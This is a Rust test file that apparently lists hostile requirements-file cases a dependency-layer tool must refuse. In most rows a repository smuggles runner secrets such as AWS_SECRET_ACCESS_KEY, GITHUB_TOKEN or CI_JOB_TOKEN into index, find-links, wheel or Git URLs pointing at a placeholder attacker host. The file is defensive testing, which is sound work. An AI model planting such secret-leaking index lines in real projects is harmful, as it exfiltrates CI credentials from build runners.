//! Variables in addresses: a repository may not say which of the runner's secrets go to which host.

use crate::hostile_repositories::row::{PLAN, Row};

pub fn rows() -> Vec<Row> {
    let mut rows = lines();
    rows.extend(files());
    rows.extend(locked());
    rows.extend(allowed());
    rows
}

/// The same where the runner has no default index, which would come before the one of the requirements.
fn index(name: &'static str, requirements: &'static str) -> Row {
    line(name, requirements).variable("UV_DEFAULT_INDEX", "")
}

/// A layer whose requirements name a variable in line 2.
fn line(name: &'static str, requirements: &'static str) -> Row {
    Row::app(name, requirements)
        .refused(&["layers/app/requirements.txt:2", "hint:"])
        .silent()
}

fn lines() -> Vec<Row> {
    vec![
        index(
            "variables: --index-url",
            "alpha\n--index-url http://{attacker}/${AWS_SECRET_ACCESS_KEY}/simple\n",
        ),
        index(
            "variables: -i, as the user of an address",
            "alpha\n-i http://${AWS_SESSION_TOKEN}@{attacker}/simple\n",
        ),
        line(
            "variables: --extra-index-url",
            "alpha\n--extra-index-url=http://{attacker}/${GITHUB_TOKEN}/simple\n",
        ),
        line(
            "variables: --find-links",
            "alpha\n--find-links http://{attacker}/${CI_JOB_TOKEN}/\n",
        ),
        line(
            "variables: -f, in a query",
            "alpha\n-f http://{attacker}/?${MY_SECRET}\n",
        ),
        line(
            "variables: the whole address",
            "alpha\n-i ${UV_DEFAULT_INDEX}\n",
        ),
        line(
            "variables: the address of a wheel",
            "beta\nalpha @ http://{attacker}/${MY_SECRET}/alpha-1.0-py3-none-any.whl\n",
        ),
        line(
            "variables: the address of a Git repository",
            "beta\nalpha @ git+http://{attacker}/${MY_SECRET}/alpha\n",
        ),
        line(
            "variables: the address of a wheel in a Git repository",
            "beta\nalpha @ git+http://{attacker}/${MY_SECRET}/alpha.whl\n",
        ),
        index(
            "variables: in a line that is continued",
            "alpha\n--index-url \\\n  http://{attacker}/${AWS_SECRET_\\\nACCESS_KEY}/simple\n",
        ),
        index(
            "variables: the password of an index of the runner",
            "alpha\n-i http://u:${UV_INDEX_INTERNAL_PASSWORD}@{attacker}/simple\n",
        ),
        index(
            "variables: one that holds no secret",
            "alpha\n-i http://{attacker}/${HOME}/simple\n",
        ),
        index(
            "variables: the one that uv knows itself",
            "alpha\n-i http://{attacker}/${PROJECT_ROOT}/simple\n",
        ),
        index(
            "variables: one that is not set",
            "alpha\n-i http://{attacker}/${NOT_SET}/simple\n",
        ),
        index(
            "variables: behind one that does not count",
            "alpha\n-i http://{attacker}/$MY_SECRET/${MY_SECRET}/simple\n",
        ),
        line(
            "variables: a host that is trusted",
            "alpha\n--trusted-host ${MY_SECRET}.attacker.invalid\n",
        ),
        line("variables: a name", "beta\n${MY_SECRET}\n"),
        Row::app(
            "variables: without braces, which nobody replaces",
            "alpha\n-f http://{attacker}/open/$MY_SECRET/%24%7BMY_SECRET%7D\n",
        ),
    ]
}

fn files() -> Vec<Row> {
    let address = "-i http://{attacker}/${MY_SECRET}/simple\n";
    vec![
        Row::app(
            "variables: in a file that is included",
            "alpha\n-r ../../more.in\n",
        )
        .file("more.in", address)
        .variable("UV_DEFAULT_INDEX", "")
        .refused(&["more.in:1", "MY_SECRET", "hint:"])
        .silent(),
        Row::app("variables: in constraints", "alpha\n-c ../../more.in\n")
            .file("more.in", address)
            .variable("UV_DEFAULT_INDEX", "")
            .variable("UV_DEFAULT_INDEX", "")
            .refused(&["more.in:1", "MY_SECRET", "hint:"])
            .silent(),
        Row::app(
            "variables: the name of an included file",
            "alpha\n-r ${MY_SECRET}.in\n",
        )
        .refused(&["layers/app/requirements.txt:2", "hint:"])
        .silent(),
        Row::app("variables: indexes of uv.toml", "alpha\n").file(
            "uv.toml",
            "[[index]]\nurl = \"http://{attacker}/${AWS_SECRET_ACCESS_KEY}/simple\"\n",
        ),
        Row::app("variables: find-links of pyproject.toml", "alpha\n").file(
            "pyproject.toml",
            "[tool.uv]\nfind-links = [\"http://{attacker}/${MY_SECRET}/\"]\n",
        ),
    ]
}

/// The attacker locked at home; where the wheel is not in the cache, it is looked up.
fn locked() -> Vec<Row> {
    let commands: &[&[&str]] = &[&["plan", "--locked"], &["apply", "--yes", "--locked"]];
    let locked = |name: &'static str, text: &'static str| {
        Row::app(name, text)
            .variable("LLS_LOCKED", "1")
            .variable("UV_DEFAULT_INDEX", "")
            .with(|site| site.as_attacker(&["lock"]))
            .commands(commands)
            .refused(&["layers/app/requirements.txt:", "INTERNAL_HOST", "hint:"])
    };
    vec![
        locked(
            "variables: with a lock that is current, and a cold cache",
            "alpha\n--index-url http://{attacker}/open/${INTERNAL_HOST}/simple\n",
        ),
        locked(
            "variables: the same where wheels are linked",
            "alpha\n--no-index\n-f http://{attacker}/open/${INTERNAL_HOST}/alpha/\n",
        ),
    ]
}

fn allowed() -> Vec<Row> {
    let secret = |name: &'static str, text: &'static str, variable: &'static str| {
        Row::app(name, text)
            .variable("LLS_ALLOW_ENV", variable)
            .variable("UV_DEFAULT_INDEX", "")
            .refused(&["LLS_ALLOW_ENV", "hint:"])
            .silent()
    };
    vec![
        Row::app(
            "variables: one that the runner allows",
            "alpha\n-i http://{index}/${MIRROR}/\n",
        )
        .variable("UV_DEFAULT_INDEX", "")
        .variable("UV_INDEX", "{login}/none/simple")
        .variable("MIRROR", "mirror/simple")
        .variable("LLS_ALLOW_ENV", "LANG,MIRROR")
        .accepted(&["app"]),
        Row::app(
            "variables: another than the runner allows",
            "alpha\n-i http://{attacker}/${INTERNAL_HOST}/\n",
        )
        .variable("UV_DEFAULT_INDEX", "")
        .variable("LLS_ALLOW_ENV", "LANG")
        .commands(&[PLAN, &["apply", "--yes"]])
        .refused(&["layers/app/requirements.txt:2", "INTERNAL_HOST", "hint:"])
        .silent(),
        secret(
            "variables: a key of AWS that the runner allows by mistake",
            "alpha\n-i http://{attacker}/${AWS_SECRET_ACCESS_KEY}/\n",
            "AWS_SECRET_ACCESS_KEY",
        ),
        secret(
            "variables: a token that the runner allows by mistake",
            "alpha\n-i http://{attacker}/${GITHUB_TOKEN}/\n",
            "GITHUB_TOKEN",
        ),
    ]
}
